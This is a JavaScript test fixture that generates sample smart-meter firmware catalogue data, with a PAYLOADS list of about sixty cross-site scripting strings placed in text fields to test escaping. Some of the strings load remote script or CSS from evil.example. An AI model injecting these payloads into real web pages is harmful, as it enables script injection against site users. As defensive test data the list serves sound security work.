// SPDX-License-Identifier: Apache-2.0
// A catalogue for the pages: something to show in every state, and hostile text in every field that takes text (T23).
import { createHash } from "node:crypto";

const HEADER = "Version,Entry.number,Entry.status,Device_Type.name,Device_Model.manufacturer_identifier," +
	"Device_Model.model_identifier,Device_Model.hardware_version.version,Device_Model.hardware_version.revision," +
	"Device_Model.model_identifier_concatenated_with_hardware_version,Device_Model.firmware_version," +
	"SMETS_CHTS Version.Version_number_and_effective_date,GBCS Version.version_number,Manufacturer_Image.hash";
const ESME = "Single Element Electricity Metering Equipment";

export const SMALL = "1081:00A10102";
export const TWINS = "1082:00B10100";
export const LARGE = "1083:00C10100";
export const HOSTILE = "1084:00D10100";
export const DENSE = "1085:00E10100";

export function image(number) {
	return Buffer.from(`image of entry ${number}\n`.repeat(200));
}
function sha(buffer) {
	return createHash("sha256").update(buffer).digest("hex").toUpperCase();
}
export function id(n) {
	return String(n).padStart(6, "0");
}

// What somebody could write into an excerpt, a name or a reference, and into a search box.
export const PAYLOADS = [
	"<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
	"</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
	"<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>",
	"<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
	"<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
	"<embed src=javascript:alert(1)>", "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
	"<textarea autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
	"<marquee onstart=alert(1)>", "<form action=javascript:alert(1)><input type=submit autofocus>",
	"<button formaction=javascript:alert(1)>x</button>", "<a href=javascript:alert(1)>x</a>",
	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
	"<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css';</style>",
	"</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
	"--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
	"\" autofocus onfocus=\"alert(1)", "` onmouseover=`alert(1)`", " onload=alert(1) ", "\" style=\"background:url(javascript:alert(1))",
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
	"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "{{page.title}}{{&svg}}", "${alert(1)}", "<%= 7*7 %>", "\u202e<script>alert(1)</script>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
];

function quoted(text) {
	return /[",\r\n]/.test(text) ? `"${text.replaceAll("\"", "\"\"")}"` : text;
}

function row(number, status, model, firmware, smets, withImage, type = ESME) {
	const [maker, rest] = model.split(":");
	const m = rest.slice(0, 4), v = rest.slice(4, 6), r = rest.slice(6, 8);
	return ["Version 9.001 Issued on 01-11-2026", id(number), status, quoted(type), maker, m, v, r, m + v + r, firmware, smets,
		"GBCS Version 2.0", withImage ? sha(image(number)) : ""].join(",");
}

export function cplCsv() {
	const lines = [HEADER];
	const fw = ["00040500", "00040700", "000407FF", "00040800", "00040900", "00041001", "00040A01", "00050000", "00050400",
		"00050500", "00060000", "00060100"];
	fw.forEach((f, i) => lines.push(row(i + 1, i === 4 ? "Removed" : "Current", SMALL, f, "SMETS V2.0", i > 0)));
	lines.push(row(20, "Current", TWINS, "00000100", "SMETS V3.1", true, "Gas Smart Meter"));
	lines.push(row(21, "Current", TWINS, "00000100", "SMETS V4.2", true, "Gas Smart Meter"));
	lines.push(row(22, "Current", TWINS, "00000200", "SMETS V4.2", false, "Gas Smart Meter"));
	for (let i = 0; i < 80; i++) {
		lines.push(row(100 + i, "Current", LARGE, (0x00010000 + i).toString(16).toUpperCase().padStart(8, "0"), "SMETS V2.0", true));
	}
	PAYLOADS.forEach((p, i) => lines.push(row(300 + i, "Current", HOSTILE, (0x00020000 + i).toString(16).toUpperCase().padStart(8, "0"),
		"SMETS V2.0", true, p)));
	for (let i = 0; i < 60; i++) {
		lines.push(row(500 + i, "Current", DENSE, (0x00030000 + i).toString(16).toUpperCase().padStart(8, "0"), "SMETS V2.0", true));
	}
	return lines.join("\r\n") + "\r\n";
}

export function statements() {
	const all = [];
	const say = (entry, kind, bases, more = {}) => all.push({ entry: id(entry), kind, bases: bases.map(id), source: "manufacturer",
		author: "Example Meters", stated_on: "2023-03-01", confirmed_on: "2023-04-01", excerpt: "Read the notes.", reference: `RN-${entry}`, ...more });

	say(1, "none", []);
	say(2, "bases", [1]);
	say(3, "bases", [2], { reference: "https://www.example.org/notes/4.8.0" });
	say(4, "bases", [3]);
	say(5, "bases", [4], { source: "secas", confirmed_on: null });
	say(6, "bases", [4], { confirmed_on: null });
	say(7, "bases", [4, 6]);
	say(7, "floor", []);
	say(8, "any", [], { source: "supplier" });
	say(9, "bases", [7, 8]);
	say(9, "block", [7], { source: "secas", author: "Example Desk", excerpt: "Loses the clock.", reference: "https://www.example.org/advice/7" });
	say(6, "bases", [4, 9], { confirmed_on: null, excerpt: "Also the way back." });
	say(10, "bases", [9], { source: "inferred", author: "firpath", excerpt: "", reference: "", confirmed_on: null });
	say(10, "block", [], { source: "secas", excerpt: "Withdrawn.", reference: "ADV-10" });
	say(11, "bases", [10]);
	say(20, "none", []);
	say(21, "none", []);
	say(22, "bases", [20]);
	say(100, "none", []);
	for (let i = 1; i < 80; i++) {
		say(100 + i, "bases", [99 + i]);
	}
	for (let i = 0; i < 60; i++) {
		say(500 + i, "bases", [...Array(60).keys()].filter((k) => k !== i).map((k) => 500 + k));
	}
	PAYLOADS.forEach((p, i) => {
		if (i === 0) {
			say(300, "none", [], { author: p, excerpt: p, reference: p });
		} else if (i % 7 === 3) {
			say(300 + i, "bases", [299 + i]);
			say(300 + i, "block", [298 + i], { author: p, excerpt: p, reference: p });
		} else {
			say(300 + i, "bases", [299 + i], { author: p, excerpt: p, reference: p });
		}
	});
	return all;
}

// Later statements about the same entry replace earlier ones, but one file may say each thing once.
export function statementsNdjson() {
	const seen = new Map();
	for (const s of statements()) {
		seen.set(s.kind === "floor" || s.kind === "block" ? `${s.entry} ${s.kind}` : s.entry, s);
	}
	return [...seen.values()].map((s) => JSON.stringify(s)).join("\n") + "\n";
}

export function devicesCsv() {
	const lines = ["name,adapter,identity,entry"];
	for (let i = 1; i <= 60; i++) {
		lines.push(`meter-${String(i).padStart(3, "0")},fake,,${id([1, 4, 8, 12][i % 4])}`);
	}
	lines.push("meter-silent,fake,,");
	return lines.join("\n") + "\n";
}
